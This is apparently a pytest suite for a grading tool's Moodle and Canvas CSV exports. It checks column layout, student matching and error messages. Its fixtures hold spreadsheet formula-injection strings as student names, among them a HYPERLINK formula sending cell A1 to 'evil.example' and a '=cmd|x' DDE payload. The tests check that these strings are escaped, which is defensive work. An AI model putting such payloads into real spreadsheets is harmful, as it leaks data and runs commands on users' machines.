"""What leaves the gradebook: names in it mean harm, and the files are as Moodle and Canvas write them."""

from __future__ import annotations

import codecs
import csv
import io
import shutil
import warnings
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin
from sqlalchemy.exc import SAWarning

from coursekit.cli import main
from coursekit.errors import GradingError
from coursekit.grading.classroom.course import Course
from coursekit.grading.exchange.exports import export
from tests.grading.conftest import ROOT

pytestmark = pytest.mark.slow

LINK = '=HYPERLINK("http://evil.example/?"&A1,"see")'
STUDENTS = {
    "ana": {"first_name": "Ana María", "last_name": "O'Neill, Sr.", "email": "ana@uni.org"},
    "bob": {"first_name": 'Bob "the; one"', "last_name": "Two\nLines", "email": "b.b@uni.org", "lms_user_id": "4711"},
    "eve": {"first_name": LINK, "last_name": "@SUM(A1)", "email": "＝1+1"},
    "late": {"email": "late@uni.org"},
    "none": {"email": "none@uni.org"},
}
SCORES = {"ana": (17.5, 0.0), "bob": (37 / 3, 0.0), "eve": (0.0, 0.0), "late": (3.0, 5.0)}

WORKSHEET = (
    'Identifier,"Full name","Email address",Status,Grade,"Maximum Grade","Grade can be changed",'
    '"Last modified (grade)","Feedback comments"\n'
    '"Participant 1001","Ana María O\'Neill, Sr.",ana@uni.org,"Submitted for grading",,20.00,Yes,-,"good\nwork"\n'
    '"Participant 1002","Bob ""the; one""",b.b@uni.org,"Submitted for grading","7.00",20.00,Yes,-,\n'
    '"Participant 1003","Late Comer",late@uni.org,"Submitted for grading",1.00,20.00,Yes,-,\n'
    '"Participant 1004","None At All",none@uni.org,"No submission",4.00,20.00,Yes,-,\n'
    '"Participant 1005","=cmd|x",stranger@uni.org,"No submission",5.00,20.00,Yes,-,\n'
)
CANVAS = (
    "Student,ID,SIS User ID,SIS Login ID,Section,optimizers (5501),Other (5502),Final Score\r\n"
    ",,,,,Manual Posting,,\r\n"
    "    Points Possible,,,,,20,10,(read only)\r\n"
    '"O\'Neill, Ana María",4710,S-1,ana,TP 1,,8.5,85.0\r\n'
    '"Two, Bob",4711,S-2,bob99,TP 1,1,9,90.0\r\n'
    '"=""=1+1""",4712,eve,x@y,TP 1,EX,9,\r\n'
    '"Comer, Late",4713,late,zz,TP 2,,,\r\n'
    '"None, N",4714,S-5,none,TP 2,6,,\r\n'
    '"Student, Test",4999,,abc,TP 1,,,\r\n'
)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("class")
    shutil.copy(ROOT / "nbgrader_config.py", folder)
    with Course(root=folder).gradebook() as book:
        for assignment in ("optimizers", "optimiseurs"):
            book.add_assignment(assignment)
            book.add_notebook("01_sgd", assignment)
            book.add_grade_cell("sgd_check", "01_sgd", assignment, max_score=20, cell_type="code")
        for student, about in STUDENTS.items():
            book.add_student(student, **about)
        for student, points in SCORES.items():
            grade(book, student, *points)
    return folder


@pytest.fixture
def course(made: Path, tmp_path: Path) -> Course:
    shutil.copytree(made, tmp_path / "course")
    (tmp_path / "course" / "w.csv").write_bytes(WORKSHEET.encode())
    (tmp_path / "course" / "c.csv").write_bytes(CANVAS.encode())
    return Course(root=tmp_path / "course")


def grade(book: Gradebook, student: str, points: float, penalty: float) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", SAWarning)  # of nbgrader's own making
        submission = book.add_submission("optimizers", student)
    submission.notebooks[0].grades[0].manual_score = points
    submission.notebooks[0].grades[0].needs_manual_grade = False
    submission.notebooks[0].late_submission_penalty = penalty
    book.db.commit()


def table(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def cells(data: bytes, delimiter: str = ",") -> tuple[list[list[str]], bool, int]:
    """Return all that a system reads of a file, whether it has a byte order mark, and how many lines end as in DOS."""
    text = io.StringIO(data.decode("utf-8-sig"), newline="")
    rows = list(csv.reader(text, delimiter=delimiter, strict=True))
    return rows, data.startswith(codecs.BOM_UTF8), data.count(b"\r\n")


def test_nbgrader_export_writes_nbgraders_columns_as_a_csv_that_holds_any_name(course, quick_nbgrader):
    run = quick_nbgrader(course.root, "export")
    assert run.returncode == 0, run.stderr
    rows = table(course.root / "grades.csv")
    assert sorted(row["student_id"] for row in rows) == sorted(2 * list(STUDENTS))
    of = {row["student_id"]: row for row in rows if row["assignment"] == "optimizers"}
    assert of["bob"]["first_name"] == 'Bob "the; one"'
    assert of["bob"]["last_name"] == "Two\nLines"
    assert (of["eve"]["first_name"], of["eve"]["last_name"], of["eve"]["email"]) == ("'" + LINK, "'@SUM(A1)", "'＝1+1")
    assert [of["late"][name] for name in ("raw_score", "late_submission_penalty", "score")] == ["3.0", "5.0", "0.0"]
    assert [of["none"][name] for name in ("timestamp", "score", "max_score")] == ["", "0.0", "20.0"]


@pytest.mark.parametrize("kind", ["csv", "moodle", "canvas"])
def test_an_export_says_what_is_not_counted(course, kind):
    behaviour = {"name": "groups", "title": "A group may", "right": True, "unwritten": False, "named": {}, "weight": 0}
    judged = {"coursekit": {"subject": "SGD", "behaviours": [behaviour]}}
    output = nbformat.v4.new_output("execute_result", metadata=judged)
    cell = nbformat.v4.new_code_cell(outputs=[output], metadata={"nbgrader": {"grade_id": "c", "grade": True}})
    path = course.autograded / "ana" / "optimizers" / "01_sgd.ipynb"
    path.parent.mkdir(parents=True)
    nbformat.write(nbformat.v4.new_notebook(cells=[cell]), path)
    assert "optimizers: not counted: SGD: A group may." in export(course, kind, course.root / "out.csv")


def test_where_nbgraders_own_export_is_right_this_one_says_the_same(made, tmp_path):
    course = Course(root=made)
    theirs = CsvExportPlugin(config=course.config)
    theirs.to, theirs.student = str(tmp_path / "theirs.csv"), ["late", "none"]
    with course.gradebook() as book:
        theirs.export(book)
    export(course, "csv", tmp_path / "ours.csv")
    ours = [row for row in table(tmp_path / "ours.csv") if row["student_id"] in ("late", "none")]
    assert ours == table(tmp_path / "theirs.csv")


def test_a_worksheet_of_moodle_gets_grades_and_nothing_else_changes(course, quick_nbgrader):
    run = quick_nbgrader(
        course.root,
        "export",
        "--exporter=coursekit.grading.exchange.exports.MoodleExport",
        "--MoodleExport.worksheet=w.csv",
        "--to=upload.csv",
    )
    assert run.returncode == 0, run.stderr
    expected = (
        WORKSHEET.replace('grading",,20.00,Yes,-,"good', 'grading",17.5,20.00,Yes,-,"good')
        .replace('"7.00"', '"12.33333"')
        .replace("1.00,20", "0,20")
    )
    assert cells((course.root / "upload.csv").read_bytes()) == cells(expected.encode())
    assert run.stderr.count("eve is in the gradebook and not in w.csv; not written: optimizers 0.") == 1
    assert run.stderr.count("=cmd|x (stranger@uni.org) is in w.csv and not in the gradebook; left as it is.") == 1


@pytest.mark.parametrize("mark", ["", "\ufeff"])
def test_a_french_worksheet_with_semicolons_is_filled_in(course, mark):
    before = (
        f'{mark}Identifiant;"Nom complet";"Numéro d’identification";Statut;Note;"Note maximale"\r\n'
        '"Participant 8";"Léa; Zoé";ana;Remis;;20,00\r\n'
    )
    (course.root / "w.csv").write_bytes(before.encode())
    export(course, "moodle", course.root / "u.csv", worksheet=course.root / "w.csv")
    after = before.replace("Remis;;", "Remis;17.5;").encode()
    assert cells((course.root / "u.csv").read_bytes(), ";") == cells(after, ";")


def test_who_was_collected_without_a_list_is_found_again_by_name_and_number(course):
    with course.gradebook() as book:
        book.remove_student("late")
        for student, points in (("Late-Comer-1003", 9.0), ("comerlate-4713", 8.0)):
            book.add_student(student)
            grade(book, student, points, 0.0)
    export(course, "moodle", course.root / "u.csv", worksheet=course.root / "w.csv")
    assert [row["Grade"] for row in table(course.root / "u.csv")][2] == "9"
    export(course, "canvas", course.root / "u.csv", worksheet=course.root / "c.csv")
    assert [row["optimizers (5501)"] for row in table(course.root / "u.csv")][5] == "8"


@pytest.mark.parametrize(("other", "points"), [("uni.org", "5"), ("elsewhere.org", "")])
def test_a_name_from_the_hub_is_an_address_without_its_domain_if_there_is_one_domain(course, other, points):
    with course.gradebook() as book:
        book.add_student("zoe")
        grade(book, "zoe", 5.0, 0.0)
    people = f'"Participant 1","Zoé Z",zoe@uni.org,,,20\n"Participant 2",B,b@{other},,,20\n'
    (course.root / "w.csv").write_text(f'Identifier,"Full name","Email address",Status,Grade,Maximum grade\n{people}')
    export(course, "moodle", course.root / "u.csv", worksheet=course.root / "w.csv")
    assert [row["Grade"] for row in table(course.root / "u.csv")] == [points, ""]


def test_two_students_who_would_have_one_row_have_none_of_their_grades_written(course):
    with course.gradebook() as book:
        book.add_student("ana2", email="ANA@uni.org")
        grade(book, "ana2", 1.0, 0.0)
    said = export(course, "moodle", course.root / "u.csv", worksheet=course.root / "w.csv")
    assert table(course.root / "u.csv")[0]["Grade"] == ""
    both = [line for line in said if "ana and ana2 are both Ana María O'Neill, Sr." in line]
    assert len(both) == 1


def test_moodles_import_gets_a_column_for_each_assignment_and_nobody_without_a_grade(course):
    said = export(course, "moodle", course.root / "m.csv")
    rows = table(course.root / "m.csv")
    assert list(rows[0]) == ["Username", "First name", "Last name", "Email address", "ID number", "optimizers"]
    assert {row["Username"]: row["optimizers"] for row in rows} == {
        "ana": "17.5",
        "bob": "12.33333",
        "eve": "0.0",
        "late": "0.0",
    }
    of = {row["Username"]: row for row in rows}
    assert of["bob"]["ID number"] == "4711"
    assert of["eve"]["First name"] == "'" + LINK
    assert said == ()


def test_who_handed_in_nothing_gets_a_zero_where_that_is_wanted(course, quick_nbgrader):
    run = quick_nbgrader(
        course.root,
        "export",
        "--exporter=coursekit.grading.exchange.exports.MoodleExport",
        "--MoodleExport.missing_is_zero=True",
    )
    assert run.returncode == 0, run.stderr
    assert {row["Username"]: row["optimizers"] for row in table(course.root / "moodle.csv")}["none"] == "0.0"


def test_a_stranger_gets_a_zero_only_if_he_can_be_nobody_who_handed_in(course):
    course.config.MoodleExport.missing_is_zero = True
    said = export(course, "moodle", course.root / "u.csv", worksheet=course.root / "w.csv")
    assert [row["Grade"] for row in table(course.root / "u.csv")][-2:] == ["0", "5.00"]
    assert "Nobody in" in said[-1]
    assert "they may be eve" in said[-1]
    with course.gradebook() as book:
        book.remove_student("eve")
    export(course, "moodle", course.root / "u.csv", worksheet=course.root / "w.csv")
    assert [row["Grade"] for row in table(course.root / "u.csv")][-2:] == ["0", "0"]


def test_of_students_that_are_not_wanted_nothing_is_written_or_said(course):
    course.config.ExportPlugin.student = ["ana"]
    course.config.MoodleExport.missing_is_zero = True
    said = export(course, "moodle", course.root / "u.csv", worksheet=course.root / "w.csv")
    assert [row["Grade"] for row in table(course.root / "u.csv")] == ["17.5", "7.00", "1.00", "4.00", "5.00"]
    assert not [line for line in said if line.startswith("eve")]


def test_a_gradebook_of_canvas_gets_grades_and_nothing_else_changes(course, quick_nbgrader):
    run = quick_nbgrader(
        course.root,
        "export",
        "--exporter=coursekit.grading.exchange.exports.CanvasExport",
        "--CanvasExport.worksheet=c.csv",
        "--to=upload.csv",
    )
    assert run.returncode == 0, run.stderr
    expected = (
        CANVAS.replace("TP 1,,8.5", "TP 1,17.5,8.5")
        .replace("TP 1,1,9", "TP 1,12.33333,9")
        .replace("zz,TP 2,,", "zz,TP 2,0,")
    )
    assert cells((course.root / "upload.csv").read_bytes()) == cells(expected.encode())
    assert "has EX for optimizers in c.csv; 0 is not written." in run.stderr
    assert "Test" not in run.stderr
    assert "not in" not in run.stderr


def test_without_a_gradebook_of_canvas_one_with_ids_and_grades_is_written(course):
    export(course, "canvas", course.root / "c.csv", assignments=["optimizers"])
    lines = (course.root / "c.csv").read_text().splitlines()
    assert lines[0] == "Student,ID,SIS User ID,SIS Login ID,Section,optimizers"
    assert lines[1] == "    Points Possible,,,,,20.0"
    rows = table(course.root / "c.csv")[1:]
    of = {row["SIS Login ID"]: (row["Student"], row["ID"], row["optimizers"]) for row in rows}
    assert of.keys() == {"ana", "bob", "eve", "late"}
    assert of["ana"] == ("O'Neill, Sr., Ana María", "", "17.5")
    assert of["bob"][1:] == ("4711", "12.33333")
    assert of["eve"][0] == "'@SUM(A1), " + LINK


def test_a_column_of_canvas_with_another_name_is_found_by_its_title_or_number(course):
    files = ["--worksheet", str(course.root / "c.csv"), "--to", str(course.root / "u.csv")]
    for column in ("Other", "5502", "Other (5502)"):
        assert main(["export", "canvas", "--course", str(course.root), "--column", column, *files, "optimizers"]) == 0
        assert table(course.root / "u.csv")[2]["Other (5502)"] == "17.5"


def test_another_maximum_and_what_waits_for_a_person_is_said(course):
    with course.gradebook() as book:
        book.find_submission("optimizers", "ana").notebooks[0].grades[0].needs_manual_grade = True
        book.db.commit()
    (course.root / "w.csv").write_text(WORKSHEET.replace("20.00", "10.00"))
    (course.root / "c.csv").write_text(CANVAS.replace(",20,10,", ",100,10,"))
    moodle = "\n".join(export(course, "moodle", course.root / "u.csv", worksheet=course.root / "w.csv"))
    canvas = "\n".join(export(course, "canvas", course.root / "u.csv", worksheet=course.root / "c.csv"))
    assert "optimizers is worth 20 points in the gradebook and 10.00 in " in moodle
    assert "optimizers is worth 20 points in the gradebook and 100 in " in canvas
    assert "submissions not complete: 1." in moodle


def test_what_cannot_be_used_is_refused_with_file_cause_and_fix(course):
    (course.root / "participants.csv").write_text("First name,Email address\nAna,ana@uni.org\n")
    (course.root / "latin.csv").write_bytes(WORKSHEET.encode("cp1252"))
    for kind, sheet, names, message in (
        (
            "moodle",
            "participants.csv",
            (),
            "participants.csv is no grading worksheet.*column Identifier.*Download grading",
        ),
        ("moodle", "c.csv", (), "c.csv is no grading worksheet"),
        ("moodle", "latin.csv", (), "latin.csv is not in UTF-8"),
        ("moodle", "absent.csv", (), "absent.csv cannot be read"),
        ("moodle", "w.csv", ("optimizers", "optimiseurs"), "is of one assignment, and the gradebook has .*: name one"),
        ("canvas", "w.csv", (), "w.csv is no gradebook of Canvas"),
        ("canvas", "c.csv", ("optimiseurs",), "has no column optimiseurs, but .*CanvasExport.column"),
        ("canvas", "c.csv", ("sgd",), "has no assignment sgd, only"),
        ("csv", "c.csv", (), "choose moodle or canvas"),
        ("xlsx", "c.csv", (), "choose one of csv, moodle, canvas"),
    ):
        with pytest.raises(GradingError, match=message):
            export(course, kind, course.root / "u.csv", worksheet=course.root / sheet, assignments=names)
        assert not (course.root / "u.csv").exists()
    with pytest.raises(GradingError, match=r"u\.csv cannot be written"):
        export(course, "csv", course.root / "w.csv" / "u.csv")


def test_nbgrader_export_says_what_is_wrong_in_a_line_and_fails(course, quick_nbgrader):
    run = quick_nbgrader(
        course.root,
        "export",
        "--exporter=coursekit.grading.exchange.exports.CanvasExport",
        "--CanvasExport.worksheet=w.csv",
    )
    assert run.returncode == 1
    assert "w.csv is no gradebook of Canvas" in run.stderr
    assert "Traceback" not in run.stderr
